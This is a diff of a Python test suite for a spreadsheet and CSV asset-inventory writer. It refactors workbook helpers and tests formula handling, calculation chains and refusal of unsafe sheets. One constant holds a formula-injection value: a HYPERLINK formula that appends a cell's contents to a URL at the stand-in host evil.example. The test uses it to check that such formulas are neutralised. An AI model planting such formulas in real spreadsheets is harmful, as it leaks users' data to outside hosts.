@@ -7,7 +7,6 @@ import datetime as dt
 import io
 import re
 import shutil
-import struct
 import subprocess
 import tempfile
 import zipfile
@@ -18,15 +17,6 @@ from hypothesis import HealthCheck, given
 from hypothesis import settings as hypothesis_settings
 from hypothesis import strategies as st
 from openpyxl import load_workbook
-from openpyxl.chart import BarChart, Reference
-from openpyxl.comments import Comment
-from openpyxl.drawing.image import Image
-from openpyxl.formatting.rule import CellIsRule
-from openpyxl.styles import Font, PatternFill
-from openpyxl.workbook.defined_name import DefinedName
-from openpyxl.worksheet.datavalidation import DataValidation
-from openpyxl.worksheet.table import Table as ExcelTable
-from openpyxl.worksheet.table import TableStyleInfo
 
 from assetmap.inventory import schema
 from assetmap.inventory.cells import looks_like_formula, refused_character
@@ -38,17 +28,24 @@ from assetmap.inventory.write import remove, save, upsert
 from assetmap.inventory.write_csv import NUMBER
 from assetmap.inventory.xlsx_patch import NotWritable, write_row
 
-from .conftest import FIXTURES, INVENTORY
-from .test_inventory_read import write_xlsx
+from .support.project import FIXTURES, INVENTORY
+from .support.workbooks import (
+    SHEET,
+    VBA,
+    package_members,
+    rows,
+    steward_workbook,
+    stored,
+    write_package,
+    write_xlsx,
+)
 
 WRITE = FIXTURES / "write"
 TEXT_FILES = ["good.csv", "good-utf8-bom.csv", "good-windows-1252-semicolon.csv",
               "good-messy-header.csv", "good.yml"]
 CHANGE = {"id": "walking-group", "description": 'Walks by the river, "rain or shine"; all ages.'}
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'
-SHEET = "xl/worksheets/sheet1.xml"
 FORMULA_ELEMENT = re.compile(rb"<(\w+:)?f[\s>/]")
-VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 8  # stands for a macro project
 
 
 def copy(name, tmp_path, folder=INVENTORY):
@@ -277,97 +274,6 @@ def test_two_new_rows_merge_cleanly_unless_they_share_a_gap(name, tmp_path):
 # --- XLSX and XLSM -----------------------------------------------------------------------
 
 
-def steward_workbook(path: Path, macros: bool = False) -> Path:
-    """The good inventory as a steward keeps it: date and number cells, formats, a comment, a
-    drop-down list, a conditional format, an Excel table (or, in the .xlsm, an autofilter);
-    a second sheet with a merged title, a formula, a chart and an image; a defined name.
-    The .xlsm also holds a macro project."""
-    write_xlsx(path)
-    workbook = load_workbook(path)
-    sheet = workbook["Assets"]
-    for (cell,) in sheet.iter_rows(min_row=2, max_row=3, min_col=17, max_col=17):
-        cell.number_format = "yyyy-mm-dd"
-    sheet["B2"].font = Font(bold=True)
-    sheet["A2"].comment = Comment("Checked by phone", "Amina")
-    choices = DataValidation(type="list", formula1='"yes,waitlist,no"')
-    choices.add("K2:K3")
-    sheet.add_data_validation(choices)
-    sheet.conditional_formatting.add("Q2:Q3", CellIsRule(
-        operator="lessThan", formula=["45000"], fill=PatternFill("solid", start_color="FFC7CE",
-                                                                  end_color="FFC7CE")))
-    sheet.freeze_panes = "B2"
-    sheet.column_dimensions["B"].width = 30
-    if macros:
-        sheet.auto_filter.ref = "A1:V3"
-    else:
-        sheet.add_table(ExcelTable(displayName="Assets", ref="A1:V3", tableStyleInfo=(
-            TableStyleInfo(name="TableStyleMedium9", showRowStripes=True))))
-    notes = workbook.create_sheet("Notes")
-    notes.merge_cells("A1:C1")
-    notes["A1"], notes["A2"] = "Asset counts", "=COUNTA(Assets!A:A)-1"
-    for row in (("nature", 4), ("belonging", 7), ("learning", 2)):
-        notes.append(row)
-    chart = BarChart()
-    chart.add_data(Reference(notes, min_col=2, min_row=3, max_row=5))
-    notes.add_chart(chart, "E2")
-    from PIL import Image as Picture
-
-    picture = io.BytesIO()
-    Picture.new("RGB", (8, 8), "teal").save(picture, format="PNG")
-    notes.add_image(Image(picture), "E20")
-    workbook.defined_names["assets"] = DefinedName("assets", attr_text="Assets!$A$1:$V$3")
-    workbook.save(path)
-    if macros:
-        _add_macros(path)
-    return path
-
-
-def _members(path: Path) -> dict[str, bytes]:
-    with zipfile.ZipFile(path) as package:
-        return {info.filename: package.read(info) for info in package.infolist()}
-
-
-def _zip(path: Path, members: dict[str, bytes]) -> None:
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
-        for name, data in members.items():
-            package.writestr(name, data)
-
-
-def _add_macros(path: Path) -> None:
-    members = _members(path)
-    types = members["[Content_Types].xml"].decode()
-    types = types.replace("spreadsheetml.sheet.main+xml", "TEMP").replace(
-        "application/vnd.openxmlformats-officedocument.TEMP",
-        "application/vnd.ms-excel.sheet.macroEnabled.main+xml")
-    members["[Content_Types].xml"] = types.replace("<Default ", '<Default Extension="bin" '
-                                                   'ContentType="application/vnd.ms-office.'
-                                                   'vbaProject" /><Default ', 1).encode()
-    rels = members["xl/_rels/workbook.xml.rels"].decode()
-    members["xl/_rels/workbook.xml.rels"] = rels.replace("</Relationships>", (
-        '<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/'
-        'relationships/vbaProject" Target="vbaProject.bin" /></Relationships>')).encode()
-    members["xl/vbaProject.bin"] = VBA
-    _zip(path, members)
-
-
-def stored(path: Path) -> dict[str, bytes]:
-    """Each member as stored: its local header's fields and its compressed bytes."""
-    data = path.read_bytes()
-    found = {}
-    with zipfile.ZipFile(path) as package:
-        for info in package.infolist():
-            at = info.header_offset
-            name_length, extra_length = struct.unpack("<HH", data[at + 26:at + 30])
-            start = at + 30 + name_length + extra_length
-            found[info.filename] = data[at + 4:at + 26] + data[start:start + info.compress_size]
-    return found
-
-
-def rows(path: Path) -> dict[int, bytes]:
-    xml = zipfile.ZipFile(path).read(SHEET)
-    return {int(e.attrs["r"]): xml[e.start:e.end] for e in elements(xml, 3) if e.name == "row"}
-
-
 def test_xlsx_change_keeps_every_other_cell(tmp_path):
     path = tmp_path / "inventory.xlsx"
     write_xlsx(path)
@@ -407,11 +313,11 @@ def test_the_quote_prefix_format_is_added_once(tmp_path):
 def test_a_sheet_with_a_namespace_prefix_gets_cells_with_that_prefix(tmp_path):
     """Some tools write <x:row> and <x:c> (the OpenXML SDK); new cells must match."""
     path = steward_workbook(tmp_path / "inventory.xlsx")
-    members = _members(path)
+    members = package_members(path)
     main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
     sheet = re.sub(r"<(/?)([A-Za-z]\w*)(?=[\s/>])", r"<\1x:\2", members[SHEET].decode())
     members[SHEET] = sheet.replace(main, main.replace("xmlns=", "xmlns:x="), 1).encode()
-    _zip(path, members)
+    write_package(path, members)
     upsert(read_table(path), {"id": "walking-group", "name": "=1+1", "latitude": "45.5"})
     upsert(read_table(path), {"id": "zz-new", "name": "New", "last_verified": "2026-11-22"})
     xml = zipfile.ZipFile(path).read(SHEET)
@@ -482,7 +388,7 @@ def test_removing_an_asset_empties_its_row_in_a_workbook(tmp_path):
 def _with_formulas(path: Path, cell: str, chain: str) -> None:
     """Replace the cell N2 by ``cell`` and give the workbook the calculation chain
     ``chain``, as Excel would for a formula."""
-    members = _members(path)
+    members = package_members(path)
     members[SHEET] = re.sub(r'<c r="N2".*?</c>', cell, members[SHEET].decode()).encode()
     members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(b"</Types>", (
         b'<Override PartName="/xl/calcChain.xml" ContentType="application/vnd.openxmlformats-'
@@ -493,7 +399,7 @@ def _with_formulas(path: Path, cell: str, chain: str) -> None:
         b"</Relationships>")
     members["xl/calcChain.xml"] = ('<calcChain xmlns="http://schemas.openxmlformats.org/'
                                    f'spreadsheetml/2006/main">{chain}</calcChain>').encode()
-    _zip(path, members)
+    write_package(path, members)
 
 
 WEBSITE_FORMULA = ('<c r="N2" t="str"><f>"https://walk.example.org"</f>'
@@ -514,7 +420,7 @@ def test_a_calculation_chain_left_empty_goes(tmp_path):
     path = steward_workbook(tmp_path / "inventory.xlsx")
     _with_formulas(path, WEBSITE_FORMULA, '<c r="N2" i="1"/>')
     upsert(read_table(path), {"id": "walking-group", "website": "https://walk.example.net"})
-    members = _members(path)
+    members = package_members(path)
     assert "xl/calcChain.xml" not in members
     assert b"calcChain" not in members["[Content_Types].xml"] + \
         members["xl/_rels/workbook.xml.rels"]
@@ -536,18 +442,18 @@ def test_a_shared_formula_is_not_broken(tmp_path):
 
 def test_a_full_sheet_and_a_sheet_with_a_dtd_are_not_written(tmp_path):
     path = steward_workbook(tmp_path / "inventory.xlsx")
-    members = _members(path)
+    members = package_members(path)
     members[SHEET] = members[SHEET].replace(b"</sheetData>", (
         b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
         b"</sheetData>"))
-    _zip(path, members)
+    write_package(path, members)
     before = path.read_bytes()
     with pytest.raises(NotWritable) as raised:
         write_row(path, "Assets", None, {1: "zz-new"})
     assert raised.value.code == "sheet-full" and path.read_bytes() == before
     members[SHEET] = members[SHEET].replace(b"<worksheet", b'<!DOCTYPE worksheet [<!ENTITY a '
                                             b'"aaaaaaaa">]><worksheet', 1)
-    _zip(path, members)
+    write_package(path, members)
     with pytest.raises(NotWritable) as raised:
         write_row(path, "Assets", 2, {2: "x"})
     assert raised.value.code == "unreadable"
